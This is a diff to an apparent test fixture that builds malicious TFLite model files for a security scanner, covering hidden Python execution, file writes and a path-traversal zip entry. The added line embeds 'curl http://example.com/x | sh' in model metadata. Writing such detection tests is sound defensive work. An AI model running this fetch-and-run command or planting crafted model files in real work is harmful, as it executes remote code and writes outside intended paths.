@@ -170,6 +170,7 @@ def tflite_attacks() -> dict[str, tuple[str, bytes]]:
         "hidden python": ("runs-code", _custom("FlexErf", flex_options("PyFuncStateless"))),
         "save elsewhere": ("writes", _custom("FlexSaveV2", flex_options("SaveV2"), named, text)),
         "print to a file": ("writes", _custom("FlexPrintV2", flex_options("PrintV2", to_file))),
+        "command in the description": ("code-in-metadata", tflite_bytes(model(more={3: "curl http://example.com/x | sh"}))),
         "appended file elsewhere": ("path-elsewhere", PLAIN_MODEL + zip_of(**{"..__..__evil_txt": b"x"})),
     }  # fmt: skip
 
